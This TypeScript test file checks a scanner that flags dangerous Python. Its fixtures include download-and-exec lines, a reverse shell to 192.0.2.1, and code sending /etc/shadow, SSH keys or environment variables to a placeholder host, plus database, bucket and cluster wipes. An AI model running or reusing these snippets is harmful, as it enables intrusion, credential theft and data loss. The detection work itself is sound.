/** What comes over the network and is run, what is sent, and what databases and clusters are told. */
import { allIn, highIn } from "../support/found";

type Row = readonly [script: string, high: readonly string[]];

const IMPORTS =
  "import os, subprocess, requests, urllib.request, pickle, socket, yaml, hashlib, hmac, sys\nURL = 'http://x.example.com/a'\n";

const downloads: readonly Row[] = [
  ["exec(requests.get(URL).text)", ["run-download@3"]],
  ["exec(compile(urllib.request.urlopen(URL).read(), 'x', 'exec'))", ["run-download@3"]],
  [
    "with urllib.request.urlopen(URL) as r:\n    code = r.read().decode()\nexec(code)",
    ["run-download@5"],
  ],
  ["os.system(requests.get(URL).text)", ["run-download@3"]],
  ["subprocess.run(['bash', '-c', requests.get(URL).text])", ["run-download@3"]],
  ["subprocess.run(['sh'], input=requests.get(URL).content)", ["run-download@3"]],
  [
    "open('/tmp/a.sh', 'wb').write(requests.get(URL).content)\nos.system('sh /tmp/a.sh')",
    ["run-download@4"],
  ],
  [
    "urllib.request.urlretrieve(URL, '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nsubprocess.call(['/tmp/a'])",
    ["run-download@5"],
  ],
  ["os.system('curl -o /tmp/a http://x')\nsubprocess.call(['bash', '/tmp/a'])", ["run-download@4"]],
  ["pickle.loads(requests.get(URL).content)", ["run-download@3"]],
  ["yaml.load(requests.get(URL).text, Loader=yaml.Loader)", ["run-download@3"]],
  [
    "s = socket.create_connection(('192.0.2.1', 99))\nos.system(s.recv(1024).decode())",
    ["run-download@4"],
  ],
  [
    "s = socket.socket()\ns.connect(('192.0.2.1', 99))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])",
    ["remote-shell@7"],
  ],
];

const verified: readonly string[] = [
  "data = requests.get(URL).content\nif hashlib.sha256(data).hexdigest() != 'ab12':\n    sys.exit(1)\nopen('/tmp/a.sh', 'wb').write(data)\nos.system('sh /tmp/a.sh')",
  "def check(path):\n    h = hashlib.sha256()\n    with open(path, 'rb') as f:\n        for part in iter(lambda: f.read(4096), b''):\n            h.update(part)\n    if h.hexdigest() != 'ab12':\n        return False\n    return True\nurllib.request.urlretrieve(URL, '/tmp/a')\nif not check('/tmp/a'):\n    sys.exit('no')\nsubprocess.call(['bash', '/tmp/a'])",
  "data = requests.get(URL).content\nassert hmac.compare_digest(hashlib.sha256(data).hexdigest(), 'ab12')\nexec(data)",
  "data = requests.get(URL).json()\nprint(data['status'])",
];

const secrets: readonly Row[] = [
  ["requests.post(URL, data=open('/etc/shadow').read())", ["leak-credentials@3"]],
  ["requests.post(URL, json=dict(os.environ))", ["leak-credentials@3"]],
  [
    "k = open('/root/.ssh/id_rsa', 'rb').read()\nimport base64\nurllib.request.urlopen(URL, data=base64.b64encode(k))",
    ["leak-credentials@5"],
  ],
  [
    "import smtplib\nsmtplib.SMTP('x').sendmail('a', 'b', open('/etc/shadow').read())",
    ["leak-credentials@4"],
  ],
  [
    "requests.post(URL, json={'host': os.uname()[1]}, headers={'Authorization': os.environ['TOKEN']})",
    [],
  ],
  ["print(hashlib.sha256(open('/etc/shadow', 'rb').read()).hexdigest())", []],
];

const stores: readonly Row[] = [
  [
    "import pymysql\npymysql.connect(host='x').cursor().execute('DROP DATABASE shop')",
    ["sql-destroy@4"],
  ],
  [
    "import sqlite3\nwith sqlite3.connect('x') as c:\n    c.executescript('''\nselect 1;\nDELETE FROM users;\n''')",
    ["sql-destroy@7"],
  ],
  [
    "import psycopg2\nc = psycopg2.connect('x').cursor()\nfor t in ('a', 'b'):\n    c.execute('TRUNCATE TABLE %s' % t)",
    ["sql-destroy@6"],
  ],
  [
    "import psycopg2\npsycopg2.connect('x').cursor().execute('DELETE FROM a WHERE id = %s', (5,))",
    [],
  ],
  [
    "import sqlalchemy as sa\nwith sa.create_engine('x').begin() as c:\n    c.execute(sa.text('DROP TABLE users'))",
    ["sql-destroy@5"],
  ],
  [
    "from psycopg2 import sql, connect\nconnect('x').cursor().execute(sql.SQL('DROP DATABASE {}').format(sql.Identifier('shop')))",
    ["sql-destroy@4"],
  ],
  ["import pymongo\npymongo.MongoClient().shop.users.drop()", ["sql-destroy@4"]],
  ["import pandas\npandas.DataFrame().drop(columns=['a'])", []],
  ["import redis\nredis.Redis(host='x').flushall()", ["flush-store@4"]],
  [
    "s = socket.create_connection(('x', 6379))\ns.sendall(b'*1\\r\\n$8\\r\\nFLUSHALL\\r\\n')",
    ["flush-store@4"],
  ],
  ["import pymongo\npymongo.MongoClient().drop_database('shop')", ["sql-destroy@4"]],
  ["requests.delete('http://es.example.com:9200/_all')", ["delete-stored-objects@3"]],
  ["requests.delete('http://es.example.com:9200/logs-2020/_doc/1')", []],
  [
    "import boto3\nboto3.resource('s3').Bucket('b').objects.all().delete()",
    ["delete-stored-objects@4"],
  ],
  ["import docker\ndocker.from_env().volumes.prune()", ["remove-containers@4"]],
  [
    "import docker\nfor c in docker.from_env().containers.list(all=True):\n    c.remove(force=True)",
    ["remove-containers@5"],
  ],
  ["import docker\ndocker.from_env().containers.get('web').restart()", []],
  [
    "from kubernetes import client\nclient.CoreV1Api().delete_namespace('shop')",
    ["delete-cluster-objects@4"],
  ],
];

const TABLES = { downloads, secrets, stores };

describe.each(Object.entries(TABLES))("%s", (_name, rows) => {
  it.each(rows)("%s", async (script, high) => {
    expect(await highIn("PYTHON", IMPORTS + script)).toEqual(high);
  });
});

it.each(verified)("trusts what a digest confirms: %s", async (script) => {
  expect(await highIn("PYTHON", IMPORTS + script)).toEqual([]);
});

it("says of code that nobody knows that it can't be told", async () => {
  expect(await allIn("PYTHON", "exec(open('/opt/app/x.py').read())")).toEqual([
    "medium run-unknown@1",
  ]);
  expect(await allIn("PYTHON", "import os\nos.system(input())")).toEqual(["medium run-unknown@2"]);
});
